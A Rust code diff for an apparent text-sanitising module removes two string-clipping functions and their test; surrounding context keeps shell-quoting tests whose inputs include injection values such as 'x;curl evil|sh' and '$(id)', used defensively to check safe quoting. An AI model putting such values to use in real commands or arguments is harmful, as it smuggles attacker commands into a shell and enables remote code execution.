@@ -5,22 +5,6 @@
     clippy::as_conversions
 )]
 
-/// The most characters of a foreign text that an error carries.
-const MOST: usize = 300;
-
-/// The beginning of `text`. A bucket or a server may fill an error with megabytes.
-pub(crate) fn clipped(text: &str) -> String {
-    clipped_to(text, MOST)
-}
-
-/// The first `most` characters of `text`.
-pub(crate) fn clipped_to(text: &str, most: usize) -> String {
-    match text.char_indices().nth(most) {
-        None => text.to_owned(),
-        Some((end, _)) => format!("{}…", text.get(..end).unwrap_or_default()),
-    }
-}
-
 /// `text` without what could move a terminal's cursor, start a line of its own, turn the reading
 /// direction, or hide.
 pub fn printable(text: &str) -> String {
@@ -116,12 +100,5 @@ mod tests {
         assert_eq!(quoted("x;curl evil|sh"), "'x;curl evil|sh'");
         assert_eq!(quoted("$(id)'`"), r"'$(id)'\''`'");
         assert_eq!(quoted(""), "''");
-    }
-
-    #[test]
-    fn a_long_text_is_cut_between_characters() {
-        assert_eq!(clipped("short"), "short");
-        let cut = clipped(&"é".repeat(1_000_000));
-        assert_eq!(cut.chars().count(), MOST + 1);
     }
 }
